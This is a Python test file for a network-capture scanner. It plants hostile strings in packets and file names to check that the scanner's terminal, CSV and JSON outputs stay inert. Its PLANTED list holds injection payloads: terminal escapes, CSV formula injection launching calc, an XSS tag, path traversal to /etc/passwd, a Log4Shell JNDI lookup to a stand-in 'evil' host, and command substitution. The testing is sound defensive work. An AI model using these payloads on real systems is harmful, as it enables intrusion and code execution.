"""Text from packets, planted wherever there is room for it, acts nowhere."""

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.builder import ETHERNET, SECOND, Pcapng, as_json, in_time, linked, request, response
from tests.findings.stable import VET, epilogue, ordinary, swap, talk
from tests.report.test_command import Done, run

PLANTED = (
    "\x1b[31m\x1b]0;owned\x07\x1b[2J\x9b5m",
    "\u202eesrever\u2066\u200b",
    "[red]markup[/red][link=http://evil]x[/link]",
    "=1+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "+1-1",
    "<script>alert(1)</script>",
    "../../etc/passwd\x00.pcap",
    "%s%n{0.__class__}${jndi:ldap://evil}`id`$(id)",
)
ACTING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]")


def sent(text: str) -> str:
    """The text as bytes of a head can carry it."""
    return text.encode().decode("latin-1").replace("\r", "").replace("\n", "")


@pytest.fixture(scope="module")
def capture(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A capture with findings on every planted text, in all places at once."""
    return planted(tmp_path_factory.mktemp("planted"))


def planted(folder: Path, more: tuple[str, ...] = ()) -> Path:
    """Such a capture, with `more` texts."""
    parts = []
    for number, text in enumerate((*PLANTED, *more), 20):
        word = sent(text)
        one = talk(number)
        target = "/" + word.replace(" ", "_")
        one.ask(request(VET)).answer(response(as_json({text: 1, "id": text})))
        one.ask(f"GET {target} HTTP/1.1\r\nHost: {word}\r\nX: {word}\r\n\r\n".encode("latin-1"))
        one.answer(response(b"x", fields=f"Content-Type: {word}\r\nServer: {word}\r\n"))
        one.ask(f"GET {target} HTTP/1.1\r\nHost: {word}\r\n\r\n".encode("latin-1"))
        parts.append(one.wait(30 * SECOND).close().frames)
    one, two = swap()
    frames = in_time(ordinary(), one.frames, two.frames, *parts, epilogue())
    name = "".join(PLANTED[:4]).encode()
    file = Pcapng().interface(ETHERNET, options={1: name, 2: name, 3: name, 9: b"\x09"})
    file.interface(ETHERNET, options={2: PLANTED[6].encode(), 9: b"\x09"})
    for number, frame in enumerate(frames):
        file.enhanced(linked(frame.packet, ETHERNET), ticks=frame.time, interface=number % 1)
    path = folder / "pl[red]an\x1b[31mted.pcapng"
    path.write_bytes(file.data)
    return path


@pytest.fixture(scope="module")
def folder(capture: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All outputs of a scan, alone in a folder."""
    place = tmp_path_factory.mktemp("outputs")
    done = run("scan", capture, "--csv", place / "f.csv", "--json", place / "r.json",
               "--exchanges", place / "e.csv")  # fmt: skip
    assert done.returncode == 1
    assert done.stderr == b""
    return place


def shown(done: Done) -> Iterator[str]:
    yield done.stdout.decode()
    yield done.stderr.decode()


@pytest.mark.parametrize("columns", [60, 200])
@pytest.mark.parametrize("command", ["scan", "scan --full", "explain", "explain --brief"])
def test_a_terminal(capture: Path, command: str, columns: int) -> None:
    done = run(*command.split(), capture, columns=columns)
    assert done.returncode == 1
    for text in shown(done):
        assert not ACTING.search(text)
    if command == "scan --full":
        whole = re.sub(r"[\s│]", "", done.stdout.decode())
        assert "[red]markup[/red]" in whole
        assert r"\x1b]0;owned\x07" in whole


def test_an_error(tmp_path: Path) -> None:
    done = run("scan", tmp_path / "no\x1b[31m\u202ewhere[red]")
    assert done.returncode == 2
    assert not ACTING.search(done.stderr.decode())
    assert "[red]" in done.stderr.decode()


def test_csv(folder: Path) -> None:
    for name in ("f.csv", "e.csv"):
        text = (folder / name).read_bytes().decode()
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) > 10
        for row in rows:
            for value in row:
                assert not re.match(r"[=+@\t\r]|-\D", value), value
                assert not ACTING.search(value), value


def test_json(folder: Path) -> None:
    data = (folder / "r.json").read_bytes()
    report = json.loads(data)
    # Controls stand in JSON as escapes, and what was sent is in it to the letter.
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", data)
    targets = {f["request"]["target"] for f in report["findings"] if f["request"]}
    for text in PLANTED:
        assert "/" + sent(text).replace(" ", "_") in targets


def test_no_file_is_named_by_a_packet(folder: Path) -> None:
    assert sorted(path.name for path in folder.iterdir()) == ["e.csv", "f.csv", "r.json"]
